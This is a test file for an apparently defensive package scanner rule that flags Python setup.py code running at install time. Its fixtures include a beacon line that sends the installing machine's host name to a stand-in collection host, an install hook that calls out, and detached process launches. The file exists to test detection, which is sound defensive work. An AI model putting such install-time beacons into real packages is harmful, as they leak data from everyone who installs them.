import { installTimeExecution } from '../../../src/rules/install-time-execution.js';
import { sdist } from '../../support/sdist.js';
import { wheel } from '../../support/wheel.js';
import { releaseTest } from '../pipeline.js';

const PLAIN = 'from setuptools import setup\nsetup(name="demo")\n';
const setup = (source: string) => sdist({ 'setup.py': source + PLAIN });
const BEACON =
  'import socket, urllib.request\nurllib.request.urlopen("https://collect.example.invalid/?h=" + socket.gethostname())\n';

releaseTest(installTimeExecution, {
  flags: [
    { name: 'the network at module level', given: { base: setup(''), head: setup(BEACON) }, level: 'block' },
    {
      name: 'the network in a command class',
      given: {
        base: setup(''),
        head: sdist({
          'setup.py':
            'from setuptools import setup\nfrom setuptools.command.install import install\nimport urllib.request\nclass Install(install):\n    def run(self):\n        urllib.request.urlopen("https://collect.example.invalid")\n        super().run()\nsetup(name="demo", cmdclass={"install": Install})\n',
        }),
      },
      level: 'warn',
    },
    { name: 'a setup.py that was not there before', given: { base: sdist(), head: setup(BEACON) }, level: 'block' },
    {
      name: 'a detached program',
      given: {
        base: setup(''),
        head: setup('import subprocess\nsubprocess.Popen(["helper"], start_new_session=True)\n'),
      },
      level: 'block',
    },
    {
      name: 'another program',
      given: { base: setup(''), head: setup('import os\nos.system("helper --now")\n') },
      level: 'warn',
    },
    { name: 'a beacon in a first release', given: { head: setup(BEACON) }, level: 'block' },
  ],
  allows: [
    {
      name: 'git',
      given: { base: setup(''), head: setup('import subprocess\nsubprocess.check_output(["git", "describe"])\n') },
      atMost: 'note',
    },
    {
      name: 'the publish shortcut',
      given: {
        base: setup(''),
        head: setup('import os, sys\nif sys.argv[-1] == "publish":\n    os.system("python setup.py sdist upload")\n'),
      },
      atMost: 'note',
    },
    {
      name: 'the same network use in both releases',
      given: { base: setup(BEACON), head: setup(`VERSION = 2\n${BEACON}`) },
    },
    { name: 'a setup.py inside a wheel', given: { base: wheel(), head: wheel({ 'demo/setup.py': BEACON }) } },
  ],
});
